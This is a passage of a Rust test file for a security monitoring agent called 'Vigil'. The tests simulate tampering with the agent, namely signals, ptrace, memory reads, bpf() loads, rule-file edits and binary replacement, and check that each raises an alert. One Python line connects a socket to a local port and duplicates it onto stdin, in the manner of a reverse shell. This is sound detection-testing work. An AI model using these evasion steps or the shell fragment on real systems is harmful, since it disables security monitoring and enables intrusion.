    std::thread::sleep(Duration::from_millis(300));
    let lines = agent.lines();
    // the actions were seen
    for name in ["hello", "rusty", "ldd", "curl", "passwd"] {
        assert!(
            lines
                .iter()
                .any(|v| v["evt"]["kind"] == "exec" && v["proc"]["name"] == name && in_tree(v, pid)),
            "the agent did not see `{name}` run; it saw: {:?}",
            lines
                .iter()
                .filter(|v| v["evt"]["kind"] == "exec" && in_tree(v, pid))
                .map(|v| str_of(&v["proc"]["name"]))
                .collect::<Vec<_>>()
        );
    }
    let loud: Vec<String> = alerts(&lines)
        .into_iter()
        .filter(|a| in_tree(a, pid))
        .filter(|a| ["EMERGENCY", "ALERT", "CRITICAL", "ERROR", "WARNING"].contains(&str_of(&a["alert"]["priority"])))
        .map(|a| format!("{}: {}", str_of(&a["alert"]["rule"]), output(a)))
        .collect();
    assert!(loud.is_empty(), "benign actions raised alerts:\n{}", loud.join("\n"));
}

// ------------------------------------------------------------------------------------
// Tampering with Vigil
// ------------------------------------------------------------------------------------

#[test]
fn signals_to_the_agent_are_detected() {
    let agent = Agent::start(&[]);
    let pid = agent.pid();
    // SIGCONT: harmless to a running agent
    let rc = unsafe { libc::kill(pid, libc::SIGCONT) };
    assert_eq!(rc, 0);
    let a = wait_alert(&agent, "Signal sent to the Vigil agent", |a| {
        a["proc"]["pid"] == std::process::id()
    });
    check(
        &a,
        "CRITICAL",
        "T1562.001",
        &[&format!("Signal SIGCONT sent to the Vigil agent (pid {pid})")],
    );
    assert_eq!(a["syscall"]["target_is_vigil"], true);

    // the harness stops the agent with SIGINT: recorded at low priority
    let (lines, _) = agent.stop();
    let stop = alerts_of(&lines, "Vigil agent interrupted");
    assert!(
        !stop.is_empty(),
        "the SIGINT that stopped the agent was not recorded:\n{}",
        summary_of_alerts(&lines)
    );
    check(stop[0], "NOTICE", "T1562.001", &["SIGINT sent to the Vigil agent"]);
}

#[test]
fn tracing_the_agent_is_detected() {
    let agent = Agent::start(&[]);
    let pid = agent.pid();
    // PTRACE_SEIZE does not stop the agent, and the tracer's exit detaches it; then a
    // process_vm_readv at a bad address, which fails
    let (tracer, _) = python_ok(
        "import ctypes, sys\nlibc = ctypes.CDLL(None, use_errno=True)\npid = int(sys.argv[1])\n\
         libc.ptrace(0x4206, pid, 0, 0)\n\
         class Iov(ctypes.Structure):\n    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n\
         buf = ctypes.create_string_buffer(8)\n\
         local = Iov(ctypes.cast(buf, ctypes.c_void_p), 8)\nremote = Iov(8, 8)\n\
         libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)\n",
        &[&pid.to_string()],
    );
    let a = wait_alert(&agent, "Vigil agent traced or its memory accessed", |a| {
        a["proc"]["pid"] == tracer && a["evt"]["type"] == "ptrace"
    });
    check(&a, "CRITICAL", "T1562.001", &["request=PTRACE_SEIZE"]);
    let a = wait_alert(&agent, "Vigil agent traced or its memory accessed", |a| {
        a["proc"]["pid"] == tracer && a["evt"]["type"] == "process_vm_readv"
    });
    check(
        &a,
        "CRITICAL",
        "T1562.001",
        &[&format!("process_vm_readv on the Vigil agent (pid {pid})")],
    );
    // the agent still works
    let port = listener(1, b"exit\n", Duration::from_millis(300));
    python(
        &format!("import socket,os;s=socket.socket();s.connect(('127.0.0.1',{port}));os.dup2(s.fileno(),0)"),
        &[],
    );
    wait_alert(&agent, "Network socket duplicated onto shell stdio", |_| true);
}

#[test]
fn bpf_calls_by_other_processes_are_detected() {
    let agent = Agent::start(&["--events"]);
    // BPF_PROG_LOAD and BPF_MAP_CREATE with an empty attribute: refused, reported with the result
    let (pid, _) = python_ok(
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nattr = (ctypes.c_char * 128)()\n\
         print(libc.syscall(321, 5, attr, 128))\nprint(libc.syscall(321, 0, attr, 128))\n",
        &[],
    );
    let a = wait_alert(&agent, "BPF program loaded by another process", |a| {
        a["proc"]["pid"] == pid
    });
    check(&a, "ERROR", "T1562.001", &["bpf(BPF_PROG_LOAD) by python3"]);
    assert!(
        a["syscall"]["args"]["res"].as_str().is_some_and(|r| r.starts_with('-')),
        "the failed load carries its result"
    );
    let a = wait_alert(&agent, "BPF map created or object opened by another process", |a| {
        a["proc"]["pid"] == pid
    });
    check(&a, "WARNING", "T1562.001", &["bpf(BPF_MAP_CREATE) by python3"]);

    // near miss: `vigil doctor` (the agent's own executable) loads probe programs
    let doctor = Command::new(vigil_bin())
        .arg("doctor")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let doctor_pid = doctor.id();
    let out = doctor.wait_with_output().unwrap();
    assert!(out.status.success(), "vigil doctor failed");
    sh_ok("/bin/true vigil-doctor-done-marker");
    wait_caught_up(&agent, "vigil-doctor-done-marker");
    let lines = agent.lines();
    assert!(
        lines
            .iter()
            .any(|v| v["evt"]["type"] == "bpf" && v["proc"]["pid"] == doctor_pid),
        "the doctor's bpf() calls were not seen"
    );
    assert_no_alert(&lines, "BPF program loaded by another process", |a| {
        a["proc"]["pid"] == doctor_pid
    });
    assert_no_alert(&lines, "BPF map created or object opened by another process", |a| {
        a["proc"]["pid"] == doctor_pid
    });
}

#[test]
fn rule_files_changed_under_the_agent_are_detected() {
    let dir = tmp_dir("rulefile");
    let file = dir.path().join("local.yaml");
    std::fs::write(&file, "- list: vigil_exec_test_local\n  items: [a]\n").unwrap();
    let agent = Agent::start(&["-r", file.to_str().unwrap()]);

    // near miss: reading the rules
    sh_ok(&format!("cat {} > /dev/null", file.display()));
    // appended to
    sh_ok(&format!("echo '# disabled' >> {}", file.display()));
    let a = wait_alert(&agent, "Vigil rule file modified", |a| {
        a["evt"]["type"] == "openat" && a["fd"]["name"] == file.display().to_string()
    });
    check(
        &a,
        "ERROR",
        "T1562.001",
        &[&format!("Vigil rule file {} changed", file.display())],
    );
    // replaced by a rename (sed -i, editors)
    sh_ok(&format!("sed -i 's/items: \\[a\\]/items: [b]/' {}", file.display()));
    let a = wait_alert(&agent, "Vigil rule file modified", |a| {
        a["proc"]["name"] == "sed" && a["evt"]["type"] != "openat"
    });
    check(&a, "ERROR", "T1562.001", &[&format!("target={}", file.display())]);
    // removed
    sh_ok(&format!("rm {}", file.display()));
    let a = wait_alert(&agent, "Vigil rule file modified", |a| a["proc"]["name"] == "rm");
    check(&a, "ERROR", "T1562.001", &["unlink"]);

    let lines = agent.lines();
    assert_no_alert(&lines, "Vigil rule file modified", |a| a["proc"]["name"] == "cat");
}

/// Runs a copy of the agent's executable (so that the test can move it) with the built-in
/// rules; returns the child and the path of its output.
fn start_agent_copy(exe: &Path, out: &Path) -> Child {
    let mut child = Command::new(exe)
        .args(["run", "--stats-interval", "0", "--output"])
        .arg(out)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start the agent copy");
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            if line.starts_with("ready") {
                let _ = tx.send(());
            }
        }
    });
    rx.recv_timeout(Duration::from_secs(60))
        .expect("the agent copy did not get ready");
    child
}

fn read_lines(path: &Path) -> Vec<Value> {
    let mut text = std::fs::read_to_string(path).unwrap_or_default();
    text.truncate(text.rfind('\n').map_or(0, |i| i + 1));
    text.lines()
        .filter(|l| !l.is_empty())
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

#[test]
fn agent_executable_moved_is_detected() {
    let dir = tmp_dir("agentbin");
    let exe = dir.path().join("vigil");
    std::fs::copy(vigil_bin(), &exe).expect("copy the agent");
    std::fs::set_permissions(&exe, std::fs::Permissions::from_mode(0o755)).unwrap();
    // holds this test binary's agent lock while the copy runs beside it
    let _lock = Agent::start(&[]);
    let out = dir.path().join("copy.jsonl");
    let mut copy = start_agent_copy(&exe, &out);
    struct Stop<'a>(&'a mut Child);
    impl Drop for Stop<'_> {
        fn drop(&mut self) {
            unsafe { libc::kill(self.0.id() as i32, libc::SIGINT) };
            let _ = self.0.wait();
        }
    }
    let _stop = Stop(&mut copy);

    // writing to it fails (the file is busy), and the attempt is reported
    let _ = sh(&format!("echo x >> {}", exe.display()));
    // moved away and replaced
    let moved = dir.path().join("vigil.old");
    sh_ok(&format!(
        "mv {} {} && cp /bin/true {}",
        exe.display(),
        moved.display(),
        exe.display()
    ));

    let a = wait_alert_in(
        || read_lines(&out),
        "Vigil agent executable modified",
        |a| a["proc"]["name"] == "mv",
    );
    check(
        &a,
        "CRITICAL",
        "T1562.001",
        &[&format!("Vigil agent executable {} changed", exe.display())],
    );
    assert!(
        output(&a).contains(&format!("target={}", moved.display())),
        "{}",
        output(&a)
    );
    let a = wait_alert_in(
        || read_lines(&out),
        "Vigil agent executable modified",
        |a| a["evt"]["res"].as_i64().is_some_and(|r| r < 0),
    );
    check(&a, "CRITICAL", "T1562.001", &["res=ETXTBSY"]);
}
